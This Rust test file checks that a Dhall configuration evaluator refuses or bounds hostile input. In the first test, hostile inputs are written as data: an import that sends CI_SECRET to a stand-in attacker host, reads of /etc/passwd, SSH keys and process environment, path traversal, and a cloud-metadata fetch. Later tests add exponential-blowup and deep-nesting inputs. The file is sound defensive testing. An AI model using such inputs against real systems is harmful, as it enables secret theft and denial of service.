//! The Dhall engine against files that were written to harm: nothing is read outside, nothing hangs or crashes.

use meshc::dhall::Evaluated;

use super::dhall::{evaluate, messages, show};

/// What came of a file: data, or the code of the first finding and how many there are.
fn outcome(result: &Evaluated) -> String {
    match (&result.datum, result.findings.as_slice()) {
        (Some(datum), []) => show(datum),
        (None, [first, ..]) => first.diagnostic.code.to_string(),
        _ => "both data and findings, or neither".to_owned(),
    }
}

fn check(text: &str, expected: &str) {
    let (result, sources) = evaluate(&[("a/b.dhall", text)], None);
    let shown: String = text.chars().take(200).collect();
    assert_eq!(
        outcome(&result),
        expected,
        "{shown}: {:?}",
        messages(&result, &sources)
    );
}

#[test]
fn what_lies_outside_is_refused_and_no_alternative_recovers_from_that() {
    let rows = [
        "https://attacker.invalid/collect using [ { mapKey = \"X-Leak\", mapValue = env:CI_SECRET as Text } ] as Text ? \"quiet\"",
        "/etc/hostname as Text ? \"\"",
        "/proc/self/environ as Bytes ? 0x\"\"",
        "~/.ssh/id_ed25519 as Text ? \"\"",
        "../../../../etc/passwd as Text ? \"\"",
        "../\"..\"/\"..\"/\"etc\"/\"passwd\" as Text ? \"\"",
        "./a/../../../etc/passwd as Text ? \"\"",
        "/etc/passwd ? 1",
        "env:CI_SECRET ? 1",
        "(let _ = http://127.0.0.1:22/ as Text in \"open\") ? \"closed\"",
        "http://169.254.169.254/latest/meta-data as Text ? \"\"",
    ];
    for text in rows {
        check(text, "dhall/policy");
    }
}

/// `let NAME0 = first`, then so many bindings each made of the one before.
fn doubled(first: &str, times: usize, name: &str, next: impl Fn(&str) -> String) -> String {
    let binding = |at: usize| format!("let {name}{at} = {}\n", next(&format!("{name}{}", at - 1)));
    format!("let {name}0 = {first}\n") + &(1..=times).map(binding).collect::<String>()
}

#[test]
fn shared_parts_are_never_expanded() {
    let text = doubled("\"aa\"", 60, "x", |x| format!("{x} ++ {x}"));
    let types = |name| doubled("Natural", 60, name, |t| format!("{{ a : {t}, b : {t} }}"));
    let open = doubled("n", 60, "t", |t| format!("{{ a : {t}, b : {t} }}"));
    let values = doubled("1", 60, "v", |v| format!("{{ a = {v}, b = {v} }}"));
    let sums = doubled("x", 59, "s", |s| format!("{s} + {s}"));
    let rows = [
        (format!("{text}in x35"), "dhall/budget"),
        (format!("{text}let _ = assert : x60 === x60 in 1"), "1"),
        (
            format!("{}{}let _ = λ(x : t60) → x : u60 in 1", types("t"), types("u")),
            "1",
        ),
        (format!("{}in 1 : t60", types("t")), "dhall/type"),
        (
            format!("let f = λ(n : Type) → {open}in λ(x : t60) → x let _ = f Natural in 1"),
            "1",
        ),
        (format!("{values}in 1"), "1"),
        (
            format!("let f = λ(x : Natural) → {sums}in Natural/isZero s59 in f 0"),
            "true",
        ),
        (
            "List/length Natural (Natural/fold 40 (List Natural) (λ(l : List Natural) → l # l) [ 1 ])"
                .to_owned(),
            "1099511627776",
        ),
    ];
    for (text, expected) in rows {
        check(&text, expected);
    }
}

#[test]
fn long_computations_end_with_a_finding() {
    let rows = [
        (
            "Natural/isZero (Natural/fold 40 Natural (λ(x : Natural) → x * x) 2)",
            "dhall/budget",
        ),
        (
            "Natural/fold 9 Text (λ(t : Text) → Text/replace \"a\" \"aaaaaaaaaa\" t) \"a\"",
            "dhall/budget",
        ),
        (
            "let two = λ(a : Type) → λ(f : a → a) → λ(x : a) → f (f x) let pow = λ(n : ∀(a : Type) → (a → a) → a → a) → λ(a : Type) → n (a → a) (two a) in pow (pow (pow (pow two))) Natural (λ(x : Natural) → x + 1) 0",
            "dhall/budget",
        ),
        (
            "Natural/fold 100000000000 Natural (λ(x : Natural) → Natural/subtract 1 x) 5",
            "0",
        ),
    ];
    for (text, expected) in rows {
        check(text, expected);
    }
}

#[test]
fn depth_is_bounded_and_chains_are_not() {
    let nested = |open: &str, inner: &str, close: &str, depth: usize| {
        format!("{}{inner}{}", open.repeat(depth), close.repeat(depth))
    };
    let rows = [
        (nested("(", "1", ")", 1_900), "1"),
        (nested("(", "1", ")", 100_000), "dhall/parse"),
        (nested("{ a = ", "1", " }", 1_900), "dhall/budget"),
        (nested("[", "1", "]", 100_000), "dhall/parse"),
        (nested("\"${", "\"\"", "}\"", 1_900), "\"\""),
        (format!("0{}", " + 1".repeat(50_000)), "50000"),
        (
            format!("let f = λ(x : Natural) → x{} in f 1", " + x".repeat(50_000)),
            "50001",
        ),
        (format!("{{=}}{}", ".a".repeat(50_000)), "dhall/type"),
        (format!("{{=}} with {}a = 1", "a.".repeat(50_000)), "dhall/budget"),
        (
            format!("{}in x19999", doubled("1", 19_999, "x", ToOwned::to_owned)),
            "1",
        ),
    ];
    for (text, expected) in rows {
        check(&text, expected);
    }
}

#[test]
fn a_secret_in_a_file_that_is_no_dhall_is_not_quoted_when_it_is_outside() {
    let (result, sources) = evaluate(&[("a.dhall", "/etc/passwd")], None);
    assert_eq!(
        messages(&result, &sources),
        ["`/etc/passwd` must not be imported: it is outside of the repository @ /etc/passwd"]
    );
}

#[test]
fn too_many_imports_are_told_of_once() {
    let names: Vec<String> = (0..10_050).map(|at| format!("m{at}.dhall")).collect();
    let list: Vec<String> = names.iter().map(|name| format!("./{name}")).collect();
    let root = format!("[ {} ]", list.join(", "));
    let mut files = vec![("a.dhall", root.as_str())];
    files.extend(names.iter().map(|name| (name.as_str(), "1")));
    let (result, sources) = evaluate(&files, None);
    assert_eq!(
        messages(&result, &sources),
        ["more than 10000 files or 67108864 bytes are imported @ ./m9999.dhall"]
    );
}

#[test]
fn of_a_file_with_very_many_mistakes_the_first_thousand_are_told() {
    let names: Vec<String> = (0..200_000).map(|at| format!("name{at}")).collect();
    let (result, _) = evaluate(&[("a.dhall", &format!("[ {} ]", names.join(", ")))], None);
    let last = result.findings.last().unwrap().diagnostic.message.clone();
    assert_eq!(result.findings.len(), 1_001);
    assert_eq!(last, "there are more mistakes than 1000; mend these first");
    let sums: Vec<String> = (0..3_000).map(|_| "1 + True".to_owned()).collect();
    let (result, _) = evaluate(&[("a.dhall", &format!("[ {} ]", sums.join(", ")))], None);
    assert_eq!(result.findings.len(), 1_001);
}
